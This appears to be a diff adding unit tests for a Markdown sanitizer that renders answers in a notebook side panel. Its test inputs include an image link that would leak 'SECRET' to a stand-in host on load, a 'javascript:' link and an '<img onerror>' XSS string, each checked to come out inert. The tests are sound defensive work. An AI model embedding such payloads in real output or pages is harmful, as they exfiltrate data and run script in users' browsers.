@@ -1,6 +1,6 @@
 import { answerCell } from '../decisions';
 import { isEvent, parseKernelMsg, savedEvents, type RunFinishedMsg } from '../protocol';
-import { markdownText } from '../safe';
+import { markdownNodes, markdownText, type MarkdownNode } from '../safe';
 import { ev, rootReply } from './helpers';
 
 /** The payloads the kernel's half is tested with too (tests/unit/test_safe.py). */
@@ -95,5 +95,73 @@ describe('events from a saved notebook', () => {
   ])('drops an event with %s', (_what, event) => {
     expect(isEvent(event)).toBe(false);
     expect(savedEvents({ rlm_kernel: { events: [event] } })).toEqual([]);
+  });
+});
+
+/** Every element of a tree of answer Markdown, depth first. */
+function elements(nodes: MarkdownNode[]): Array<Exclude<MarkdownNode, string>> {
+  return nodes.flatMap(n => (typeof n === 'string' ? [] : [n, ...elements(n.children)]));
+}
+
+/** The tree's text, as the panel shows it. */
+function textOf(nodes: MarkdownNode[]): string {
+  return nodes.map(n => (typeof n === 'string' ? n : textOf(n.children))).join('');
+}
+
+describe('an answer’s Markdown in the side panel', () => {
+  it('renders emphasis, code and links instead of showing their source', () => {
+    expect(markdownNodes('The code is **4721**, in *the vault*; see `codes.txt` or [the log](https://example.org/log).')).toEqual([
+      {
+        tag: 'p',
+        children: [
+          'The code is ',
+          { tag: 'strong', children: ['4721'] },
+          ', in ',
+          { tag: 'em', children: ['the vault'] },
+          '; see ',
+          { tag: 'code', children: ['codes.txt'] },
+          ' or ',
+          { tag: 'a', href: 'https://example.org/log', children: ['the log'] },
+          '.'
+        ]
+      }
+    ]);
+  });
+
+  it('renders headings, lists, quotes and code blocks', () => {
+    const nodes = markdownNodes('## Found\n\n- one\n- **two**\n\n1. first\n2. second\n\n> quoted\n\n```python\nx = 1 * 2\n```');
+    expect(nodes.map(n => (typeof n === 'string' ? n : n.tag))).toEqual(['h2', 'ul', 'ol', 'blockquote', 'pre']);
+    expect(nodes[1]).toEqual({
+      tag: 'ul',
+      children: [
+        { tag: 'li', children: ['one'] },
+        { tag: 'li', children: [{ tag: 'strong', children: ['two'] }] }
+      ]
+    });
+    expect(nodes[4]).toEqual({ tag: 'pre', children: [{ tag: 'code', children: ['x = 1 * 2'] }] });
+  });
+
+  it('leaves plain text, snake_case, arithmetic and escapes as they are written', () => {
+    const nodes = markdownNodes('a_b_c is 2 * 3 * 4 and \\*not em\\*');
+    expect(nodes).toEqual([{ tag: 'p', children: ['a_b_c is 2 * 3 * 4 and *not em*'] }]);
+  });
+
+  it.each(payloads)('makes no markup of %s: text, known elements, and only web or mail links', (_id, text) => {
+    for (const node of elements(markdownNodes(text))) {
+      expect(['p', 'h1', 'h2', 'ul', 'ol', 'li', 'blockquote', 'pre', 'code', 'strong', 'em', 'del', 'a', 'hr']).toContain(node.tag);
+      if (node.tag === 'a') {
+        expect(node.href).toMatch(/^(https?|mailto):/i);
+      } else {
+        expect(node.href).toBeUndefined();
+      }
+    }
+  });
+
+  it('turns an image into a link to it, never loaded, and a javascript: link into its text', () => {
+    expect(markdownNodes('![chart](http://127.0.0.1:9/leak?d=SECRET)')).toEqual([
+      { tag: 'p', children: [{ tag: 'a', href: 'http://127.0.0.1:9/leak?d=SECRET', children: ['image: chart'] }] }
+    ]);
+    expect(markdownNodes('[click me](javascript:void0)')).toEqual([{ tag: 'p', children: ['click me'] }]);
+    expect(textOf(markdownNodes('<img src=x onerror="alert(1)">'))).toBe('<img src=x onerror="alert(1)">');
   });
 });
